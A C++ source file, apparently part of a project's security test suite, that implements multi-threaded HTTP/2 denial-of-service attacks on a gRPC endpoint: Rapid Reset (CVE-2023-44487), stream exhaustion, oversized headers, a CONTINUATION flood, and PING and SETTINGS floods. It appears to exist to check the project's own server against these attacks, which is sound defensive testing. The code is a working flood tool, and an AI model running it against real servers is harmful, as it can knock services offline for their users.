#include "tests/attack/h2/attack_modes.h"

#include <algorithm>
#include <thread>
#include <vector>

#include "tests/attack/h2/enroll_message.h"

namespace edge::h2attack {
namespace {

using Clock = std::chrono::steady_clock;

// Frames queued ahead of the socket: enough to keep it busy, small enough that the queue never
// becomes the tool's own memory problem.
constexpr size_t kQueueHigh = 256 * 1024;
constexpr auto kConnectTimeout = std::chrono::milliseconds(3000);

struct Shared {
  const Options& options;
  SSL_CTX* tls;
  std::string header_block;  // the gRPC request headers
  std::string message;       // gRPC-framed EnrollRequest
  Clock::time_point deadline;
};

int MillisLeft(const Shared& s) {
  const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(s.deadline - Clock::now()).count();
  return left > 0 ? static_cast<int>(left) : 0;
}

// Lets the server's reply to the last frames (GOAWAY, RST_STREAM) arrive before the connection
// is dropped, so the counts say what the server did.
void Linger(H2Connection& conn, int ms) {
  const auto until = Clock::now() + std::chrono::milliseconds(ms);
  while (conn.open() && Clock::now() < until) conn.Pump(10);
}

// Waits for the server's SETTINGS (the limits the stream attacks aim at).
bool AwaitSettings(H2Connection& conn, const Shared& s) {
  const auto until = Clock::now() + std::chrono::milliseconds(1000);
  while (conn.open() && !conn.settings_received() && Clock::now() < until && MillisLeft(s) > 0) conn.Pump(10);
  return conn.open() && conn.settings_received();
}

// HEADERS (+ one DATA with the EnrollRequest) + RST_STREAM CANCEL, as fast as the socket takes
// them: the server sets up a call per stream while the client never has more than one open
// (CVE-2023-44487).
void RapidReset(H2Connection& conn, const Shared& s, Stats& st) {
  const bool with_data = !s.options.no_data;
  while (conn.open() && !conn.goaway() && Clock::now() < s.deadline) {
    while (conn.pending() < kQueueHigh) {
      if (with_data && conn.connection_window() < static_cast<int64_t>(s.message.size())) {
        ++st.flow_control_waits;
        break;
      }
      const uint32_t id = conn.NewStreamId();
      if (id == 0) return;
      AppendHeaderBlock(conn.out(), id, s.header_block, /*end_stream=*/!with_data);
      st.header_bytes_sent += s.header_block.size();
      if (with_data) {
        AppendFrame(conn.out(), FrameType::kData, flags::kEndStream, id, s.message);
        conn.ConsumeWindow(s.message.size());
        ++st.data_frames_sent;
      }
      AppendRstStream(conn.out(), id, h2error::kCancel);
      ++st.streams_opened;
      ++st.resets_sent;
    }
    conn.Pump(conn.pending() >= kQueueHigh || with_data ? 5 : 0);
  }
  Linger(conn, 200);
}

// Opens streams (HEADERS, no body, no END_STREAM) up to the advertised MAX_CONCURRENT_STREAMS,
// holds them for a moment, then opens more past the limit and holds whatever the server lets it
// keep until the time is up. `held_streams` is the most this connection held at once.
void ManyStreams(H2Connection& conn, const Shared& s, Stats& st) {
  if (!AwaitSettings(conn, s)) return;
  const int64_t advertised = st.max_concurrent_streams >= 0 ? st.max_concurrent_streams : 100;
  const int64_t want = s.options.streams > 0 ? s.options.streams : 2 * advertised;
  uint64_t opened = 0;
  uint64_t held = 0;
  auto open_until = [&](int64_t count) {
    for (; static_cast<int64_t>(opened) < count; ++opened) {
      const uint32_t id = conn.NewStreamId();
      if (id == 0) return;
      AppendHeaderBlock(conn.out(), id, s.header_block, /*end_stream=*/false);
      st.header_bytes_sent += s.header_block.size();
      ++st.streams_opened;
    }
  };
  auto hold = [&](Clock::time_point until) {
    while (conn.open() && !conn.goaway() && Clock::now() < until) {
      conn.Pump(20);
      if (conn.open() && opened > conn.streams_ended()) held = std::max(held, opened - conn.streams_ended());
    }
  };
  open_until(std::min(want, advertised));
  hold(std::min(s.deadline, Clock::now() + std::chrono::milliseconds(300)));
  open_until(want);
  hold(s.deadline);
  st.held_streams = std::max(st.held_streams, held);
}

// One request per stream whose header block holds one field of `header_bytes` (past the 16 KiB
// metadata limit), sent as HEADERS + CONTINUATION; at most the advertised number of streams
// outstanding.
void BigHeaders(H2Connection& conn, const Shared& s, Stats& st) {
  if (!AwaitSettings(conn, s)) return;
  const uint64_t limit = st.max_concurrent_streams > 0 ? static_cast<uint64_t>(st.max_concurrent_streams) : 16;
  std::string block = s.header_block;
  AppendHpackLiteral(block, "x-big", std::string(s.options.header_bytes, 'a'));
  uint64_t opened = 0;
  while (conn.open() && !conn.goaway() && Clock::now() < s.deadline) {
    while (opened - conn.streams_ended() < limit && conn.pending() < kQueueHigh) {
      const uint32_t id = conn.NewStreamId();
      if (id == 0) return;
      st.continuation_frames_sent += AppendHeaderBlock(conn.out(), id, block, /*end_stream=*/true, conn.peer_max_frame_size());
      st.header_bytes_sent += block.size();
      ++st.streams_opened;
      ++opened;
    }
    conn.Pump(5);
  }
  Linger(conn, 200);
}

// One header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames full of
// fields for as long as the server takes them (the 2024 "CONTINUATION flood").
void ContinuationFlood(H2Connection& conn, const Shared& s, Stats& st) {
  if (!AwaitSettings(conn, s)) return;
  const uint32_t id = conn.NewStreamId();
  AppendFrame(conn.out(), FrameType::kHeaders, 0, id, s.header_block);
  st.header_bytes_sent += s.header_block.size();
  ++st.streams_opened;
  std::string fragment;
  const size_t frame = conn.peer_max_frame_size();
  for (int i = 0; fragment.size() + 64 + 1024 < frame; ++i)
    AppendHpackLiteral(fragment, "x-pad-" + std::to_string(i), std::string(1024, 'p'));
  while (conn.open() && !conn.goaway() && Clock::now() < s.deadline) {
    while (conn.pending() < kQueueHigh) {
      AppendFrame(conn.out(), FrameType::kContinuation, 0, id, fragment);
      ++st.continuation_frames_sent;
      st.header_bytes_sent += fragment.size();
    }
    conn.Pump(5);
  }
  Linger(conn, 200);
}

// PING or SETTINGS frames as fast as the socket takes them; each one obliges the server to send
// an ACK. With no_read those ACKs can only pile up on the server's side.
void ControlFlood(H2Connection& conn, const Shared& s, Stats& st, bool pings) {
  const bool read = !s.options.no_read;
  uint64_t n = 0;
  while (conn.open() && Clock::now() < s.deadline && (!read || !conn.goaway())) {
    while (conn.pending() < 64 * 1024) {
      if (pings) {
        AppendPing(conn.out(), ++n, false);
        ++st.pings_sent;
      } else {
        AppendSettings(conn.out(), {{settings::kHeaderTableSize, 4096},
                                    {settings::kEnablePush, 0},
                                    {settings::kMaxConcurrentStreams, 100},
                                    {settings::kInitialWindowSize, 65535},
                                    {settings::kMaxFrameSize, 16384},
                                    {settings::kMaxHeaderListSize, 65536}});
        ++st.settings_sent;
      }
    }
    conn.Pump(5, read);
  }
  Linger(conn, 300);  // reads now, even with no_read: what did the server say at the end?
}

void Worker(const Shared& s, Stats& st) {
  while (MillisLeft(s) > 0) {
    auto conn = H2Connection::Open(s.options.target, s.tls, st, kConnectTimeout);
    if (!conn) {
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
      continue;
    }
    H2Connection& c = **conn;
    switch (s.options.mode) {
      case Mode::kRapidReset: RapidReset(c, s, st); break;
      case Mode::kManyStreams: ManyStreams(c, s, st); break;
      case Mode::kBigHeaders:
        if (s.options.continuation_flood) {
          ContinuationFlood(c, s, st);
        } else {
          BigHeaders(c, s, st);
        }
        break;
      case Mode::kPingFlood: ControlFlood(c, s, st, /*pings=*/true); break;
      case Mode::kSettingsFlood: ControlFlood(c, s, st, /*pings=*/false); break;
      case Mode::kSlowHandshake: return;
    }
    // A connection the server rejected before speaking HTTP/2 (the mTLS alert) still read as
    // open until now if the mode never read: make sure it is counted.
    if (c.open() && !c.settings_received()) Linger(c, 100);
  }
}

}  // namespace

Result<Stats> RunH2Attack(const Options& options) {
  EDGE_ASSIGN_OR_RETURN(SSL_CTX * tls, MakeClientTlsContext());
  EDGE_ASSIGN_OR_RETURN(auto message, GrpcFramedEnrollRequest());
  Shared shared{options, tls, GrpcRequestHeaderBlock(options.target.authority, options.path), std::move(message),
                Clock::now() + options.duration};
  std::vector<Stats> stats(static_cast<size_t>(options.connections));
  std::vector<std::thread> workers;
  for (auto& st : stats) workers.emplace_back([&shared, &st] { Worker(shared, st); });
  for (auto& w : workers) w.join();
  SSL_CTX_free(tls);
  Stats total;
  for (const auto& st : stats) total.Merge(st);
  return total;
}

}  // namespace edge::h2attack
